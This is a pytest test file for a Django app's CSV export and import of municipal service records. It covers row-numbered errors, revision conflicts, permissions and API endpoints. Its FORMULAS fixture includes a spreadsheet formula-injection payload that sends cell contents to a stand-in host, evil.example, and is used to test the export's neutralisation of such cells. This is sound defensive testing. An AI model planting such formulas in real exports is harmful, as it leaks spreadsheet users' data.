"""CSV round trip for editors who work in spreadsheets; errors name the row."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from rest_framework.test import APIClient

from callcenter.accounts.models import User
from knowledge import services
from knowledge.exceptions import ImportFailed
from knowledge.importers.csv_services import (
    COLUMNS,
    neutralise_cell,
    services_from_csv,
    services_to_csv,
)
from knowledge.models import Service
from tests.factories import TopicFactory

pytestmark = pytest.mark.django_db


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))


def _write(rows: list[dict[str, str]]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=COLUMNS, delimiter=";")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


@pytest.fixture
def dog_tax(editor: User) -> Service:
    return services.service_create(
        actor=editor,
        content={
            "title": "Hund anmelden",
            "fees": "120 Euro",
            "forms": [{"title": "Anmeldung", "url": "https://example.org/hund.pdf"}],
            "search_terms": ["Hundesteuer", "Hundemarke"],
            "topic": TopicFactory.create(name="Tiere"),
        },
    )


def test_export_has_one_row_per_service_with_lists_flattened(dog_tax: Service) -> None:
    text = services_to_csv(Service.objects.all())
    assert text.startswith("\ufeff")
    (row,) = _rows(text)
    assert row["title"] == "Hund anmelden"
    assert row["forms"] == "Anmeldung | https://example.org/hund.pdf"
    assert row["search_terms"] == "Hundesteuer; Hundemarke"
    assert row["topic"] == "Tiere"


def test_round_trip_updates_changed_rows_and_creates_new_ones(
    dog_tax: Service, editor: User
) -> None:
    rows = _rows(services_to_csv(Service.objects.all()))
    rows[0]["fees"] = "150 Euro"
    rows.append(dict.fromkeys(COLUMNS, "") | {"title": "Katze", "valid_from": "01.02.2026"})
    report = services_from_csv(text=_write(rows), actor=editor)
    assert (report.created, report.updated, report.unchanged) == (1, 1, 0)
    dog_tax.refresh_from_db()
    assert dog_tax.fees == "150 Euro"
    assert dog_tax.search_terms == ["Hundesteuer", "Hundemarke"]
    assert Service.objects.get(title="Katze").valid_from.isoformat() == "2026-02-01"  # type: ignore[union-attr]
    again = services_from_csv(
        text=_write(_rows(services_to_csv(Service.objects.all()))), actor=editor
    )
    assert (again.created, again.updated, again.unchanged) == (0, 0, 2)


def test_errors_name_the_row_and_nothing_is_imported(dog_tax: Service, editor: User) -> None:
    rows = _rows(services_to_csv(Service.objects.all()))
    rows[0]["fees"] = "150 Euro"
    blank = dict.fromkeys(COLUMNS, "")
    rows.append(blank | {"title": "Gut"})
    rows.append(blank | {"title": "Schlecht", "leika_key": "123"})
    rows.append(blank | {"title": "", "valid_until": "morgen"})
    with pytest.raises(ImportFailed) as excinfo:
        services_from_csv(text=_write(rows), actor=editor)
    errors = excinfo.value.extra["errors"]
    assert {(e["row"], e["column"]) for e in errors} == {
        (4, "leika_key"),
        (5, "valid_until"),
        (5, "title"),
    }
    assert "Zeile 4, leika_key" in excinfo.value.message  # the German UI's wording
    dog_tax.refresh_from_db()
    assert dog_tax.fees == "120 Euro"
    assert not Service.objects.filter(title="Gut").exists()


def test_a_row_exported_before_someone_else_edited_is_refused(
    dog_tax: Service, editor: User
) -> None:
    text = services_to_csv(Service.objects.all())
    services.service_update(service=dog_tax, actor=editor, revision=1, content={"fees": "1 Euro"})
    rows = _rows(text)
    rows[0]["fees"] = "2 Euro"
    with pytest.raises(ImportFailed) as excinfo:
        services_from_csv(text=_write(rows), actor=editor)
    assert excinfo.value.extra["errors"][0]["column"] == "revision"


def test_agents_cannot_import(dog_tax: Service, agent: User) -> None:
    rows = _rows(services_to_csv(Service.objects.all()))
    rows[0]["fees"] = "0 Euro"
    with pytest.raises(ImportFailed) as excinfo:
        services_from_csv(text=_write(rows), actor=agent)
    assert excinfo.value.extra["errors"][0]["row"] == 2


def test_management_commands_round_trip(dog_tax: Service, editor: User, tmp_path: Path) -> None:
    target = tmp_path / "leistungen.csv"
    call_command("export_services_csv", str(target), stdout=io.StringIO())
    rows = _rows(target.read_text(encoding="utf-8"))
    rows[0]["deadlines"] = "1 Monat"
    target.write_text(_write(rows), encoding="utf-8")
    out = io.StringIO()
    call_command("import_services_csv", str(target), "--user", "editor", stdout=out)
    assert "1 updated" in out.getvalue()
    rows[0]["leika_key"] = "abc"
    rows[0]["revision"] = ""
    target.write_text(_write(rows), encoding="utf-8")
    with pytest.raises(CommandError):
        call_command("import_services_csv", str(target), stdout=io.StringIO(), stderr=io.StringIO())


def test_csv_over_the_api(dog_tax: Service, editor: User, agent: User) -> None:
    client = APIClient()
    client.force_authenticate(editor)
    response = client.get("/api/v1/knowledge/services/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response.content.decode("utf-8"))
    rows[0]["fees"] = "99 Euro"
    upload = SimpleUploadedFile("l.csv", _write(rows).encode("utf-8"), content_type="text/csv")
    response = client.post(
        "/api/v1/knowledge/services/import-csv/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 200, response.json()
    assert response.json() == {"created": 0, "updated": 1, "unchanged": 0}
    rows[0]["leika_key"] = "1"
    rows[0]["revision"] = ""
    upload = SimpleUploadedFile("l.csv", _write(rows).encode("utf-8"), content_type="text/csv")
    response = client.post(
        "/api/v1/knowledge/services/import-csv/", {"file": upload}, format="multipart"
    )
    assert response.status_code == 400
    assert response.json()["code"] == "import_failed"
    assert response.json()["extra"]["errors"][0]["row"] == 2
    client.force_authenticate(agent)
    assert client.get("/api/v1/knowledge/services/export.csv").status_code == 403


FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1;"Hund")',
    "fees": "+49 Euro",
    "deadlines": "-5 Tage",
    "procedure": "@SUM(A1:A9)",
    "agent_hint": "'=already quoted by hand",
    "legal_basis": "'plain apostrophe",
}


def test_export_neutralises_formula_cells_and_our_import_restores_them(
    dog_tax: Service, editor: User
) -> None:
    services.service_update(
        service=dog_tax, actor=editor, revision=dog_tax.revision, content=FORMULAS
    )
    (row,) = _rows(services_to_csv(Service.objects.all()))
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["fees"] == "'+49 Euro"
    assert row["deadlines"] == "'-5 Tage"
    assert row["procedure"] == "'@SUM(A1:A9)"
    assert row["agent_hint"] == "''=already quoted by hand"
    assert row["legal_basis"] == "'plain apostrophe"
    assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for cell in row.values())
    assert neutralise_cell("\t=1+1") == "'\t=1+1" and neutralise_cell("\r=1") == "'\r=1"

    report = services_from_csv(text=services_to_csv(Service.objects.all()), actor=editor)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    dog_tax.refresh_from_db()
    for name, value in FORMULAS.items():
        assert getattr(dog_tax, name) == value
